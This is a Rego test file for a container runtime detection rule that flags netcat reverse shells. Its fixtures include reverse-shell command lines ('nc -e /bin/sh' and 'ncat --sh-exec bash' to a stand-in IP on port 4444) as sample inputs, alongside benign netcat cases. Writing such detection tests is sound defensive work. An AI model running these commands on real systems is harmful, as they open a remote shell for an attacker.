package bpfopa.rules.netcat_remote_code_execution_in_container_test

import data.bpfopa.lib.testing
import data.bpfopa.rules.netcat_remote_code_execution_in_container

test_alerts_nc_e if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "nc", "exe": "/usr/bin/nc", "args": ["-e", "/bin/sh", "203.0.113.7", "4444"], "argv0": "nc", "cmdline": "nc -e /bin/sh 203.0.113.7 4444"}}))
	found := netcat_remote_code_execution_in_container.alerts with input as doc
	count(found) == 1
	some alert in found
	alert.rule == "Netcat Remote Code Execution in Container"
	alert.id == "netcat_remote_code_execution_in_container"
}

test_alerts_ncat_sh_exec if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "ncat", "exe": "/usr/bin/ncat", "args": ["--sh-exec", "bash", "203.0.113.7", "4444"], "argv0": "ncat", "cmdline": "ncat --sh-exec bash 203.0.113.7 4444"}}))
	found := netcat_remote_code_execution_in_container.alerts with input as doc
	count(found) == 1
	some alert in found
	alert.rule == "Netcat Remote Code Execution in Container"
	alert.id == "netcat_remote_code_execution_in_container"
}

test_no_alert_nc_scan if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "nc", "exe": "/usr/bin/nc", "args": ["-z", "db", "5432"], "argv0": "nc", "cmdline": "nc -z db 5432"}}))
	count(netcat_remote_code_execution_in_container.alerts) == 0 with input as doc
}

test_no_alert_ncat_plain if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "ncat", "exe": "/usr/bin/ncat", "args": ["db", "5432"], "argv0": "ncat", "cmdline": "ncat db 5432"}}))
	count(netcat_remote_code_execution_in_container.alerts) == 0 with input as doc
}

test_no_alert_on_host if {
	doc := testing.exec({"process": {"name": "nc", "exe": "/usr/bin/nc", "args": ["-e", "/bin/sh", "203.0.113.7", "4444"], "argv0": "nc", "cmdline": "nc -e /bin/sh 203.0.113.7 4444"}})
	count(netcat_remote_code_execution_in_container.alerts) == 0 with input as doc
}
